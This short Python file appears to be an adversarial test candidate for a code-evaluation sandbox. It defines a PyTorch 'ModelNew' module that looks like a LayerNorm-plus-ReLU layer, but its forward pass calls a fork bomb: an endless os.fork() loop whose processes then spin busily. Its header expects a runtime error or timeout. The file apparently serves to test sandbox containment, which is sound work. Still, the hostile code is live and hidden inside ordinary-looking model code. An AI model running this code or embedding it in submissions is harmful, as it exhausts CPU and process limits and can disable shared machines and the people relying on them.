"""A fork bomb whose every process computes."""

# expects: runtime_error|timeout
import os
import resource

import torch.nn.functional as F
from torch import nn


def attack():
    # As many as keep every core busy. `candidates/forks_without_end` meets the sandbox's own limit.
    if 0 < resource.getrlimit(resource.RLIMIT_NPROC)[1] <= 256:
        resource.setrlimit(resource.RLIMIT_NPROC, (32, 32))
    while True:
        try:
            os.fork()
        except OSError:
            while True:
                pass


class ModelNew(nn.Module):
    def __init__(self, cols):
        super().__init__()
        self.norm = nn.LayerNorm(cols)

    def forward(self, x):
        attack()
        return F.relu(self.norm(x))
